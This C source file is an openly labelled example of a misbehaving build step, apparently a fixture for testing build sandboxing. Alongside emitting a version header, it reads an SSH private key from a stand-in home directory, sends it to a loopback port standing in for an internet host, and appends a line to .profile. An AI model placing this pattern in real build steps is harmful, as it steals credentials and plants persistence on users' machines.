/*
 * A build step as it should not be. It generates a header, and on the side reads a secret from the home directory, sends
 * it to whoever listens, and leaves a file outside its own folder. What came of each goes to standard error.
 *
 * LEAKY_HOME stands in for the home directory and LEAKY_PORT, on the loopback, for a host on the internet.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void tell(const char *what, int succeeded)
{
	fprintf(stderr, "  %-28s %s\n", what, succeeded ? "yes" : strerror(errno));
}

static int open_at_home(const char *name, int flags)
{
	const char *home = getenv("LEAKY_HOME");
	char path[4096];

	snprintf(path, sizeof path, "%s/%s", home ? home : "/nonexistent", name);
	return open(path, flags, 0600);
}

static ssize_t read_secret(char *secret, size_t size)
{
	int file = open_at_home(".ssh/id_ed25519", O_RDONLY);
	ssize_t length;

	if (file < 0)
		return -1;
	length = read(file, secret, size);
	close(file);
	return length;
}

static int send_away(const char *data, size_t length)
{
	const char *port = getenv("LEAKY_PORT");
	struct sockaddr_in address = {
		.sin_family = AF_INET,
		.sin_port = htons((unsigned short)atoi(port ? port : "9")),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	int connection = socket(AF_INET, SOCK_STREAM, 0);
	int sent;

	if (connection < 0)
		return 0;
	sent = connect(connection, (struct sockaddr *)&address, sizeof address) == 0
		&& write(connection, data, length) == (ssize_t)length;
	close(connection);
	return sent;
}

static int leave_a_file(void)
{
	static const char line[] = "echo 'run at the next login'\n";
	int file = open_at_home(".profile", O_WRONLY | O_CREAT | O_APPEND);
	int written;

	if (file < 0)
		return 0;
	written = write(file, line, sizeof line - 1) == sizeof line - 1;
	close(file);
	return written;
}

int main(void)
{
	char secret[256] = "(no secret)\n";
	ssize_t length = read_secret(secret, sizeof secret);

	tell("read the secret", length >= 0);
	tell("sent it over the network", send_away(secret, length > 0 ? (size_t)length : strlen(secret)));
	tell("wrote to the home directory", leave_a_file());

	puts("#define VERSION \"1.0\"");
	return 0;
}
